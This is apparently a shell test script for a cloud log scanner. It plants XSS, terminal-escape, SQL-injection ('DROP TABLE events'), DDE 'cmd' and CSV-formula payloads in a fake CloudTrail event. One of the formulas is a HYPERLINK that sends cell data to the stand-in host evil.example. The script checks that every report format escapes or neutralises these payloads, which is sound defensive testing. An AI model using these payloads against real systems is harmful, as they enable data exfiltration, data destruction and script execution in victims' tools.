#!/bin/sh
# XSS, CSV-formula, terminal-escape and SQL-injection payloads planted in
# userAgent, tableName and the principal come out harmless in every format.
. "$(dirname "$0")/../lib.sh"
python3 - "$T/evil.json" <<'PY'
import json, sys
ua = "<script>document.title='pwned'</script>\u001b]0;owned\u0007\u001b[2J kali"
table = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")'); DROP TABLE events;--"
principal = "arn:aws:iam::111122223333:user/<img src=x onerror=alert(1)>\u009b31m"
ev = {"eventVersion": "1.09", "eventTime": "2026-11-12T02:10:00Z", "eventSource": "dynamodb.amazonaws.com",
      "eventName": "Scan", "awsRegion": "eu-west-1", "sourceIPAddress": "185.220.101.47",
      "userAgent": ua, "eventID": "evil-'\"-1",
      "userIdentity": {"type": "IAMUser", "arn": principal, "accountId": "111122223333",
                       "accessKeyId": "AKIA@SUM(1+1)*cmd|' /C calc'!A0"},
      "requestParameters": {"tableName": table}, "readOnly": True}
json.dump({"Records": [ev]}, open(sys.argv[1], "w"))
PY
cfg=tests/detections/config.json
run scan -q --db "$T/e.db" "$T/evil.json" --config "$cfg"
eq "$rc" 0 "scan status"
eq "$(q "$T/e.db" "SELECT count(*) FROM sqlite_master WHERE name='events'")" 1 "events table intact"
eq "$(q "$T/e.db" "SELECT table_name FROM events")" \
   "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")'); DROP TABLE events;--" "value stored verbatim"
ok_if '[ "$(q "$T/e.db" "SELECT count(*) FROM alerts WHERE rule_id=\"DDB-SUSPICIOUS-AGENT\"")" = 1 ]' \
    "attack agent detected"
lacks "$T/out" "$(printf '\033')" "text: no ESC byte"
lacks "$T/out" "$(printf '\007')" "text: no BEL byte"
lacks "$T/out" "$(printf '\302\233')" "text: no C1 CSI"
contains "$T/out" '\\x1b\]0;owned' "text: escape shown as \\x1b"
run report --db "$T/e.db" --format html
lacks "$T/out" "<script" "html: no raw script tag"
lacks "$T/out" "<img" "html: no raw img tag"
contains "$T/out" "&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;" "html: escaped text"
run report --db "$T/e.db" --format csv
python3 - "$T/out" <<'PY' || fail "csv: a cell starts with a formula character"
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    for cell in row:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
PY
contains "$T/out" "\"'=HYPERLINK" "csv: formula neutralised with a quote"
for f in json ocsf; do
    run report --db "$T/e.db" --format $f
    jq -e . "$T/out" >/dev/null || fail "$f: not valid JSON"
    lacks "$T/out" "$(printf '\033')" "$f: ESC escaped"
done
done_case
